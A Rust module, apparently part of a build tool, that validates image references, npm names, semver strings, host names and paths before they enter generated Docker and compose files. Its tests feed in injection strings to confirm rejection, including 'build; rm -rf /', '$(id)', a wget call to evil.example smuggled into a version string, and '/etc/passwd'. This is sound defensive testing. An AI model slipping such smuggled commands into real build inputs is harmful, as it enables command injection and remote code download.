//! Typed values at the model boundary: every value that comes from the config or the
//! monorepo and reaches a generated file is parsed here first (an image reference, tag,
//! registry, owner, npm package name, exact semver, host name, relative path, a set of host
//! ports without collisions). Each parser returns the value or a message saying what is wrong
//! and what a good value looks like; callers add the key and the line.
//!
//! The renderer-side quoting functions (for values that are checked but still need quoting
//! in a target grammar) live in [`crate::render::quote`].

use std::path::Path;

/// The longest value echoed whole in a message; longer values are cut (a 10 MB value must
/// not flood the terminal or a CI log).
pub const SHOWN_MAX: usize = 80;

/// A value for a message: quoted with Rust's escapes (so a newline or a control character is
/// visible), cut after [`SHOWN_MAX`] characters with the total length said.
pub fn shown(s: &str) -> String {
    let n = s.chars().count();
    if n <= SHOWN_MAX {
        return format!("{s:?}");
    }
    let head: String = s.chars().take(SHOWN_MAX).collect();
    format!("{head:?}… ({} bytes in all)", s.len())
}

fn control(s: &str) -> Option<char> {
    s.chars().find(|c| c.is_control())
}

/// An OCI path component: `[a-z0-9]+((\.|_|__|-+)[a-z0-9]+)*`.
fn path_component(p: &str) -> Result<(), String> {
    if p.is_empty() {
        return Err("an empty path component (`//` or a leading/trailing `/`)".into());
    }
    if p.chars().any(|c| c.is_ascii_uppercase()) {
        return Err(format!(
            "component {}: uppercase letters are not allowed in image names",
            shown(p)
        ));
    }
    let b = p.as_bytes();
    let alnum = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit();
    if !alnum(b[0]) || !alnum(b[b.len() - 1]) {
        return Err(format!(
            "component {} must start and end with a lowercase letter or a digit",
            shown(p)
        ));
    }
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if alnum(c) {
            i += 1;
            continue;
        }
        // a separator: `.`, `_`, `__` or one or more `-`, between alphanumerics
        let start = i;
        match c {
            b'.' => i += 1,
            b'_' => {
                i += 1;
                if i < b.len() && b[i] == b'_' {
                    i += 1;
                }
            }
            b'-' => {
                while i < b.len() && b[i] == b'-' {
                    i += 1;
                }
            }
            _ => {
                let ch = p[i..].chars().next().unwrap_or('?');
                let why = if ch.is_ascii_uppercase() {
                    "uppercase letters are not allowed in image names".to_string()
                } else {
                    format!("{ch:?} is not allowed (lowercase letters, digits, '.', '_', '-')")
                };
                return Err(format!("component {}: {why}", shown(p)));
            }
        }
        if i >= b.len() || !alnum(b[i]) || (start > 0 && !alnum(b[start - 1])) {
            return Err(format!(
                "component {} has a separator that is not between letters or digits",
                shown(p)
            ));
        }
    }
    Ok(())
}

/// An OCI registry host: `host[:port]`, each label `[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?`,
/// or `localhost[:port]`.
pub fn registry(s: &str) -> Result<(), String> {
    if s.is_empty() {
        return Err("a registry host must not be empty (e.g. ghcr.io)".into());
    }
    if let Some(c) = control(s).or_else(|| s.chars().find(|c| c.is_whitespace())) {
        return Err(format!(
            "{} holds {c:?}: a registry is a host name like ghcr.io or registry.example.com:5000",
            shown(s)
        ));
    }
    let (host, port) = match s.rsplit_once(':') {
        Some((h, p)) => (h, Some(p)),
        None => (s, None),
    };
    if let Some(p) = port {
        if p.is_empty() || !p.chars().all(|c| c.is_ascii_digit()) || p.parse::<u16>().is_err() {
            return Err(format!("{}: the port after ':' must be a number", shown(s)));
        }
    }
    for label in host.split('.') {
        let ok = !label.is_empty()
            && label.len() <= 63
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !label.starts_with('-')
            && !label.ends_with('-');
        if !ok {
            return Err(format!(
                "{} is not a registry host (letters, digits, '-' and '.', optionally :port; e.g. ghcr.io)",
                shown(s)
            ));
        }
    }
    Ok(())
}

/// An image tag: `[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}`. A tag spelling `latest` in another
/// case is refused: it is not `latest` to the registry, but reads as it to every human.
pub fn tag(s: &str) -> Result<(), String> {
    let ok = !s.is_empty()
        && s.len() <= 128
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
        && !s.starts_with(['.', '-']);
    if !ok {
        return Err(format!(
            "{} is not an image tag (letters, digits, '_', '.', '-'; at most 128; not starting with '.' or '-'; e.g. 1.4.2 or staging)",
            shown(s)
        ));
    }
    if s != "latest" && s.eq_ignore_ascii_case("latest") {
        return Err(format!(
            "{} is not `latest` (tags are case-sensitive): write latest, or a real version",
            shown(s)
        ));
    }
    Ok(())
}

/// An image repository path without a registry: `component(/component)*`, lowercase.
pub fn image_name(s: &str) -> Result<(), String> {
    if s.is_empty() {
        return Err("an image name must not be empty".into());
    }
    if s.len() > 255 {
        return Err(format!("{} is longer than 255 characters", shown(s)));
    }
    for p in s.split('/') {
        path_component(p)?;
    }
    Ok(())
}

/// An image name derived from a package name: the scope joined to the name with `-`
/// (`@ledger/server` → `ledger-server`, `api` → `api`), lowercased, every run of characters
/// an OCI path component does not allow made one `-`, trimmed; `None` when nothing is left.
/// The result always passes [`image_name`] (cut to 128 characters).
pub fn image_name_from_package(pkg: &str) -> Option<String> {
    let joined = pkg.trim_start_matches('@').replace('/', "-");
    let mut out = String::new();
    for c in joined.chars() {
        let c = c.to_ascii_lowercase();
        if c.is_ascii_lowercase() || c.is_ascii_digit() {
            out.push(c);
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
    }
    let out: String = out.chars().take(128).collect();
    let out = out.trim_end_matches('-').to_string();
    (!out.is_empty() && image_name(&out).is_ok()).then_some(out)
}

/// The owner (namespace) of the published images. `OWNER` is the template's placeholder
/// (CI passes `--owner`); anything else follows the image-name grammar.
pub fn owner(s: &str) -> Result<(), String> {
    if s == "OWNER" {
        return Ok(());
    }
    image_name(s).map_err(|m| {
        format!("{m}; an owner is a lowercase account or organisation name, e.g. acme")
    })
}

/// A full image reference: `[registry/]name[:tag][@digest]`, by the OCI reference grammar.
pub fn image_ref(s: &str) -> Result<(), String> {
    if s.is_empty() {
        return Err("empty".into());
    }
    if let Some(c) = control(s).or_else(|| s.chars().find(|c| c.is_whitespace())) {
        return Err(format!("contains {c:?}"));
    }
    let (name_tag, digest) = match s.split_once('@') {
        Some((n, d)) => (n, Some(d)),
        None => (s, None),
    };
    if let Some(d) = digest {
        let ok = d.split_once(':').is_some_and(|(alg, hex)| {
            !alg.is_empty()
                && alg
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+._-".contains(c))
                && hex.len() >= 32
                && hex.chars().all(|c| c.is_ascii_hexdigit())
        });
        if !ok {
            return Err(format!("bad digest {}", shown(d)));
        }
    }
    let last_slash = name_tag.rfind('/').map(|i| i + 1).unwrap_or(0);
    let (name, t) = match name_tag[last_slash..].find(':') {
        Some(i) => (
            &name_tag[..last_slash + i],
            Some(&name_tag[last_slash + i + 1..]),
        ),
        None => (name_tag, None),
    };
    if let Some(t) = t {
        tag(t).map_err(|m| format!("bad tag: {m}"))?;
    }
    let mut parts: Vec<&str> = name.split('/').collect();
    if parts.len() > 1
        && (parts[0].contains(['.', ':'])
            || parts[0] == "localhost"
            || parts[0].contains(char::is_uppercase))
    {
        let host = parts.remove(0);
        registry(host)?;
    }
    for p in parts {
        path_component(p).map_err(|m| format!("bad name {m}"))?;
    }
    Ok(())
}

/// An npm package name (npm's `validate-npm-package-name`, new-package rules): at most 214
/// characters, lowercase, URL-safe, optionally `@scope/name`, not starting with `.` or `_`.
pub fn npm_name(s: &str) -> Result<(), String> {
    let fail = |why: &str| {
        Err(format!(
            "{} is not a valid npm package name: {why}",
            shown(s)
        ))
    };
    if s.is_empty() {
        return fail("it is empty");
    }
    if s.len() > 214 {
        return fail("longer than 214 characters");
    }
    if s.trim() != s {
        return fail("leading or trailing white space");
    }
    let (scope, name) = match s.strip_prefix('@') {
        Some(rest) => match rest.split_once('/') {
            Some((sc, n)) => (Some(sc), n),
            None => return fail("a scoped name is @scope/name"),
        },
        None => (None, s),
    };
    let part_ok = |p: &str| {
        !p.is_empty()
            && p.chars().all(|c| {
                c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '-' | '.' | '_' | '~')
            })
    };
    if let Some(sc) = scope {
        if !part_ok(sc) || sc.starts_with('.') {
            return fail("the scope may hold lowercase letters, digits, '-', '.', '_', '~' only");
        }
    }
    if !part_ok(name) {
        return fail("lowercase letters, digits, '-', '.', '_' and '~' only");
    }
    if name.starts_with(['.', '_']) {
        return fail("it must not start with '.' or '_'");
    }
    if matches!(name, "node_modules" | "favicon.ico") {
        return fail("that name is reserved");
    }
    Ok(())
}

/// An exact semantic version (semver 2.0.0): `MAJOR.MINOR.PATCH[-pre][+build]`, no leading
/// zeros, identifiers of `[0-9A-Za-z-]`.
pub fn semver(s: &str) -> Result<(), String> {
    let fail = || {
        Err(format!(
            "{} is not an exact version (semver, e.g. 10.34.9 or 10.0.0-rc.1)",
            shown(s)
        ))
    };
    let (rest, build) = match s.split_once('+') {
        Some((r, b)) => (r, Some(b)),
        None => (s, None),
    };
    let (core, pre) = match rest.split_once('-') {
        Some((c, p)) => (c, Some(p)),
        None => (rest, None),
    };
    let num = |p: &str| {
        !p.is_empty()
            && p.len() <= 16
            && p.chars().all(|c| c.is_ascii_digit())
            && (p == "0" || !p.starts_with('0'))
    };
    let parts: Vec<&str> = core.split('.').collect();
    if parts.len() != 3 || !parts.iter().all(|p| num(p)) {
        return fail();
    }
    let ident = |i: &str| !i.is_empty() && i.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    if let Some(pre) = pre {
        for i in pre.split('.') {
            if !ident(i) || (i.chars().all(|c| c.is_ascii_digit()) && !num(i)) {
                return fail();
            }
        }
    }
    if let Some(b) = build {
        if !b.split('.').all(ident) {
            return fail();
        }
    }
    Ok(())
}

/// A host name for a Caddy site: DNS labels, optionally a leading `*.` wildcard, or an IP
/// address. A port is refused: the site's port is `caddy.https_port`'s job.
pub fn host_name(s: &str) -> Result<(), String> {
    if s.is_empty() {
        return Err("an empty host name".into());
    }
    if let Some(c) = control(s).or_else(|| s.chars().find(|c| c.is_whitespace())) {
        return Err(format!(
            "{} holds {c:?}: a host name is like staging.example.com",
            shown(s)
        ));
    }
    if s.contains("://") || s.contains('/') {
        return Err(format!(
            "{} is not a host name: write only the host, e.g. staging.example.com (no scheme, no path)",
            shown(s)
        ));
    }
    if s.parse::<std::net::IpAddr>().is_ok() {
        return Ok(());
    }
    if let Some((h, p)) = s.rsplit_once(':') {
        if p.chars().all(|c| c.is_ascii_digit()) {
            return Err(format!(
                "{} has a port: a site here is a host name only (e.g. {h}); the HTTPS port is set by `ports.https` (the https_port)",
                shown(s)
            ));
        }
    }
    let body = s.strip_prefix("*.").unwrap_or(s);
    let body = body.strip_suffix('.').unwrap_or(body);
    if body.len() > 253 {
        return Err(format!("{} is longer than 253 characters", shown(s)));
    }
    for label in body.split('.') {
        let ok = !label.is_empty()
            && label.len() <= 63
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !label.starts_with('-')
            && !label.ends_with('-');
        if !ok {
            return Err(format!(
                "{} is not a host name (labels of letters, digits and '-', joined by '.'; e.g. staging.example.com)",
                shown(s)
            ));
        }
    }
    Ok(())
}

/// A relative path inside the monorepo, spelt with `/`: not absolute, no `..`, no empty or
/// `.` component in the middle, no control characters, no backslash, and only characters the
/// Dockerfile, the ignore file and the compose file can carry unquoted.
pub fn rel_path(s: &str) -> Result<(), String> {
    let t = s.trim_start_matches("./");
    if t.is_empty() || t == "." {
        return Err(format!(
            "{} names no file: give a path like dist/main.js",
            shown(s)
        ));
    }
    if s.starts_with('/') {
        return Err(format!(
            "{} is absolute: give a path relative to the package",
            shown(s)
        ));
    }
    if let Some(bad) = t
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "._-@+/".contains(*c)))
    {
        return Err(format!(
            "{} holds {bad:?}: use letters, digits and . _ - @ + / only",
            shown(s)
        ));
    }
    for part in t.trim_end_matches('/').split('/') {
        match part {
            ".." => return Err(format!("{} leaves its directory (`..`)", shown(s))),
            "" | "." => return Err(format!("{} has an empty or `.` component", shown(s))),
            _ => {}
        }
    }
    Ok(())
}

/// A file name (one component) for a certificate or key under `infra/certs/`.
pub fn file_name(s: &str) -> Result<(), String> {
    rel_path(s)?;
    if s.contains('/') {
        return Err(format!(
            "{} must be a file name in infra/certs/, without a directory",
            shown(s)
        ));
    }
    Ok(())
}

/// A `package.json` script name the Dockerfile runs (`pnpm --filter <pkg> run <script>`):
/// letters, digits and `: . _ -` (e.g. `build`, `build:staging`), not starting with `-`.
pub fn script_name(s: &str) -> Result<(), String> {
    if s.is_empty() || s.len() > 100 {
        return Err(format!(
            "{} is not a script name: 1 to 100 characters, e.g. \"build\"",
            shown(s)
        ));
    }
    if let Some(bad) = s
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || ":._-".contains(*c)))
    {
        return Err(format!(
            "{} holds {bad:?}: a script name here is letters, digits and : . _ - only",
            shown(s)
        ));
    }
    if s.starts_with('-') {
        return Err(format!(
            "{} starts with `-` (it would read as an option)",
            shown(s)
        ));
    }
    Ok(())
}

/// Does `rel` (a [`rel_path`]) stay inside `root` once symbolic links are followed?
/// `Ok(())` when it does or does not exist; an error naming where it leads otherwise.
pub fn inside_root(root: &Path, rel: &str) -> Result<(), String> {
    let Ok(real_root) = root.canonicalize() else {
        return Ok(());
    };
    // walk component by component: the first symlink that escapes is the one to name
    let mut cur = root.to_path_buf();
    for part in rel.trim_end_matches('/').split('/') {
        cur.push(part);
        let Ok(meta) = std::fs::symlink_metadata(&cur) else {
            return Ok(());
        };
        if meta.file_type().is_symlink() {
            match cur.canonicalize() {
                Ok(real) if !real.starts_with(&real_root) => {
                    return Err(format!(
                        "{} is a symbolic link to {}, outside the monorepo",
                        shown(rel),
                        real.display()
                    ))
                }
                Err(_) => {
                    return Err(format!(
                        "{} is a symbolic link that leads nowhere (dangling)",
                        shown(rel)
                    ))
                }
                _ => {}
            }
        }
    }
    Ok(())
}

/// Host ports by the key that sets them, with the protocols each publishes: the first two
/// keys on one (port, protocol), if any, as (earlier key, later key, port).
pub fn port_collisions<'k>(ports: &[(&'k str, u16, &[&str])]) -> Option<(&'k str, &'k str, u16)> {
    for (i, (ka, pa, protos_a)) in ports.iter().enumerate() {
        for (kb, pb, protos_b) in &ports[..i] {
            if pa == pb && protos_a.iter().any(|p| protos_b.contains(p)) {
                return Some((kb, ka, *pa));
            }
        }
    }
    None
}

/// The message for a collision found by [`port_collisions`]: `key` is the one to name.
pub fn port_collision_message(key: &str, other: &str, port: u16) -> String {
    format!(
        "`{key}` = {port} is also `{other}`: two services cannot publish one host port; pick a free port for one of them"
    )
}

#[cfg(test)]
mod tests {
    #[test]
    fn script_names() {
        for ok in ["build", "build:staging", "web.build", "build_prod-2"] {
            assert_eq!(script_name(ok), Ok(()), "{ok}");
        }
        for bad in ["", "-x", "build; rm -rf /", "a b", "$(id)", "build\n"] {
            assert!(script_name(bad).is_err(), "{bad:?}");
        }
    }

    use super::*;

    #[test]
    fn image_names_derive_from_package_names() {
        for (pkg, want) in [
            ("@cipherbox/api", Some("cipherbox-api")),
            ("@ledger/server", Some("ledger-server")),
            ("api", Some("api")),
            ("@Acme/Back_End.v2", Some("acme-back-end-v2")),
            ("--x~~y--", Some("x-y")),
            ("@/", None),
            ("~~~", None),
        ] {
            let got = image_name_from_package(pkg);
            assert_eq!(got.as_deref(), want, "{pkg}");
            if let Some(g) = got {
                image_name(&g).expect("valid");
            }
        }
        let long = "a".repeat(300);
        assert_eq!(image_name_from_package(&long).map(|s| s.len()), Some(128));
    }

    #[test]
    fn messages_cut_huge_values() {
        let big = "x".repeat(10_000_000);
        let m = shown(&big);
        assert!(m.len() < 200, "{}", m.len());
        assert!(m.ends_with("… (10000000 bytes in all)"), "{m}");
        assert_eq!(shown("a\nb"), "\"a\\nb\"");
    }

    #[test]
    fn image_references_follow_the_oci_grammar() {
        for ok in [
            "node:22-alpine",
            "ghcr.io/a/b:1.2",
            "localhost:5000/x/y:t",
            "ipfs/kubo:v0.34.0",
            "x@sha256:0123456789abcdef0123456789abcdef",
            "a__b/c---d:T_1",
            "Registry.Example:5000/x",
        ] {
            image_ref(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            "Node:22",
            "node:",
            "a b",
            "node:22:x:y",
            "-x:1",
            "a_/b",
            "a..b",
            "x\ny",
            "x:Latest",
            "node:22;wget",
            "x@sha256:zz",
            "a//b",
        ] {
            assert!(image_ref(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn registries_tags_owners_names() {
        for ok in ["ghcr.io", "localhost:5000", "registry.example.com:443", "r"] {
            registry(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            "ghcr .io",
            "ghcr.io\n",
            "a/b",
            "-a.io",
            "a.io:x",
            "a.io:99999",
        ] {
            assert!(registry(bad).is_err(), "{bad:?}");
        }
        for ok in ["latest", "1.4.2", "v1_2-rc.3", "A"] {
            tag(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            "a b",
            "Latest",
            "LATEST",
            ".x",
            "-x",
            "a;b",
            &"x".repeat(129),
        ] {
            assert!(tag(bad).is_err(), "{bad:?}");
        }
        for ok in ["acme", "OWNER", "acme-corp", "a/b"] {
            owner(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in ["Acme", "a b", "a/", "-a", "a$b"] {
            assert!(owner(bad).is_err(), "{bad:?}");
        }
        image_name("cipherbox-api").expect("ok");
        assert!(image_name("Cipherbox").is_err());
    }

    #[test]
    fn npm_names() {
        for ok in ["@cipherbox/api", "pg", "a.b_c-d~e", "@a-b/c"] {
            npm_name(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            "\"; touch /tmp/x; echo \"",
            "$(id)",
            "@x",
            "Upper",
            ".hidden",
            "_x",
            "a b",
            "@s/",
            "a/b",
            "node_modules",
        ] {
            assert!(npm_name(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn exact_semver() {
        for ok in [
            "10.34.9",
            "0.0.0",
            "1.2.3-rc.1",
            "1.2.3+sha.abc",
            "1.2.3-x-y.0+b",
        ] {
            semver(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "10.34.9-x;wget${IFS}evil.example",
            "10",
            "10.1",
            "^10.1.0",
            "01.2.3",
            "1.2.3-",
            "1.2.3-01",
            "1.2.3 ",
            "1.2.3-a b",
            "1.2.3+",
        ] {
            assert!(semver(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn host_names_without_ports() {
        for ok in [
            "staging.example.com",
            "localhost",
            "*.example.com",
            "127.0.0.1",
            "::1",
        ] {
            host_name(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        let e = host_name("a.com:8443").expect_err("port");
        assert!(e.contains("https_port") && e.contains("ports.https"), "{e}");
        for bad in [
            "",
            "a b",
            "a.com\n tls off",
            "https://a.com",
            "a..com",
            "-a.com",
            "{x}",
            "a.com/x",
        ] {
            assert!(host_name(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn relative_paths() {
        for ok in ["dist/main.js", "./dist", "apps/api", "lib/"] {
            rel_path(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            ".",
            "/etc/passwd",
            "../x",
            "a/../../b",
            "a//b",
            "a b",
            "a\nb",
            "a\\b",
            "$x",
        ] {
            assert!(rel_path(bad).is_err(), "{bad:?}");
        }
        assert!(file_name("origin.pem").is_ok());
        assert!(file_name("a/b.pem").is_err());
    }

    #[test]
    fn symlinks_out_of_the_root_are_named() {
        let d = std::env::temp_dir().join(format!("xtask-values-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(d.join("root/in")).expect("mkdir");
        std::os::unix::fs::symlink("/etc", d.join("root/out")).expect("link");
        std::os::unix::fs::symlink("in", d.join("root/ok")).expect("link");
        std::os::unix::fs::symlink("/nonexistent/x", d.join("root/dangling")).expect("link");
        let root = d.join("root");
        assert!(inside_root(&root, "in").is_ok());
        assert!(inside_root(&root, "ok").is_ok());
        assert!(inside_root(&root, "missing/x").is_ok());
        assert!(inside_root(&root, "out/passwd")
            .expect_err("escapes")
            .contains("outside"));
        assert!(inside_root(&root, "dangling")
            .expect_err("dangling")
            .contains("dangling"));
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn port_sets() {
        let tcp: &[&str] = &["tcp"];
        let both: &[&str] = &["tcp", "udp"];
        assert_eq!(
            port_collisions(&[("ports.a", 1, tcp), ("ports.b", 2, both)]),
            None
        );
        assert_eq!(
            port_collisions(&[("ports.postgres", 5432, tcp), ("ports.redis", 5432, tcp)]),
            Some(("ports.postgres", "ports.redis", 5432))
        );
        assert_eq!(
            port_collisions(&[("ports.a", 53, &["udp"]), ("ports.b", 53, tcp)]),
            None,
            "one port, two protocols"
        );
    }
}
